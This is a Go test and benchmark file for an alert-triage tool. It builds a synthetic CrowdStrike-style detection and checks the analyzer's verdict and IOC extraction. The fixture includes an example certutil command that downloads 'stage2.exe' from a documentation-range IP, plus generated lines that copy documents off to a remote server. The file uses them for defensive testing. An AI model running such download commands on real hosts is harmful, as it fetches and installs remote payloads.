package builtin

import (
	"encoding/json"
	"fmt"
	"syscall"
	"testing"
	"time"

	"github.com/seliq/seliq/ingest/entities"
)

// alert10KB is a Falcon-style detection of about 10 KB: a process tree of
// command lines, hashes, addresses, ids and console links, as ingest
// stores it (entities extracted the way ingest does).
func alert10KB(tb testing.TB) (Alert, Context) {
	tb.Helper()
	tree := []map[string]any{}
	ev := map[string]any{
		"DetectName": "IngressToolTransfer", "DetectDescription": "Certutil was used to download a remote file.",
		"ComputerName": "FIN-WS-114", "UserName": "m.keller", "Tactic": "Command and Control", "Technique": "Ingress Tool Transfer",
		"TechniqueId": "T1105", "SeverityName": "High", "LocalIP": "10.20.1.15",
		"CommandLine":    "certutil.exe -urlcache -split -f http://192.0.2.44/a/stage2.exe C:\\Users\\Public\\svc.exe",
		"SHA256String":   "0f5e9bd2b3b1c4e6a1c0b3f1a2e2d9c9d9e1f8c7b6a5d4c3b2a1f0e9d8c7b6a5",
		"DetectId":       "ldt:5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b:17180139032",
		"FalconHostLink": "https://falcon.crowdstrike.com/activity/detections/detail/5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b/17180139032",
		"ProcessTree":    &tree,
	}
	for i := 0; ; i++ {
		b, _ := json.Marshal(map[string]any{"event": ev})
		if len(b) >= 10<<10 {
			raw := json.RawMessage(b)
			a := Alert{ID: "bench", Title: "IngressToolTransfer", Description: "Certutil was used to download a remote file.",
				Source: "CrowdStrike Falcon", Severity: "high", Raw: raw, Occurrences: 1, VendorTechniques: []string{"T1105"},
				Entities: entities.ExtractAlert(map[string]string{"host": "FIN-WS-114", "user": "m.keller", "src_ip": "10.20.1.15"}, raw, "IngressToolTransfer")}
			return a, Context{Profile: AssetProfile{Domains: []string{"example.com"}, Networks: []string{"10.0.0.0/8", "203.0.113.0/28"},
				AdminHosts: []string{"jump-01", "10.0.5.10"}, AdminAccounts: []string{"adm.jsmith", "svc_backup"}, Scanners: []string{"10.0.9.50"}}}
		}
		tree = append(tree, map[string]any{
			"ImageFileName": fmt.Sprintf("\\Device\\HarddiskVolume3\\Windows\\System32\\proc%d.exe", i),
			"CommandLine":   fmt.Sprintf("proc%d.exe /c \"copy C:\\Users\\m.keller\\Documents\\report-%d.xlsx \\\\fs-02\\share\\%d\" --server 198.51.100.%d", i, i, i, i%250),
			"SHA256":        fmt.Sprintf("%064x", i*7919+1),
			"ProcessId":     fmt.Sprintf("%d", 281000000000+i), "SensorId": fmt.Sprintf("%032x", i+99),
			"Link": fmt.Sprintf("https://falcon.crowdstrike.com/investigate/process/%d", i),
		})
	}
}

// BenchmarkAnalyzeAlert10KB: one built-in analysis of a 10 KB alert; the
// target is at most 5 ms of CPU. cpu-ns/op is the process's user and
// system time per analysis, which a busy machine does not inflate the way
// it does ns/op (wall time).
func BenchmarkAnalyzeAlert10KB(b *testing.B) {
	a, c := alert10KB(b)
	b.SetBytes(int64(len(a.Raw)))
	b.ReportAllocs()
	start := cpuTime()
	for b.Loop() {
		AnalyzeAlert(a, c)
	}
	b.ReportMetric(float64((cpuTime()-start).Nanoseconds())/float64(b.N), "cpu-ns/op")
}

// cpuTime is the process's user plus system CPU time so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func TestAlert10KBIsTriaged(t *testing.T) {
	a, c := alert10KB(t)
	an := AnalyzeAlert(a, c)
	if an.Verdict != VerdictLikelyMalicious {
		t.Errorf("verdict %s, want likely_malicious:\n%s", an.Verdict, reasonLines(an.Reasons))
	}
	for _, e := range an.IOCs {
		if e.Value == "5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b" || e.Value == "https://falcon.crowdstrike.com/activity/detections/detail/5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b/17180139032" {
			t.Errorf("IOC %s is a record id or console link", e.Value)
		}
	}
}
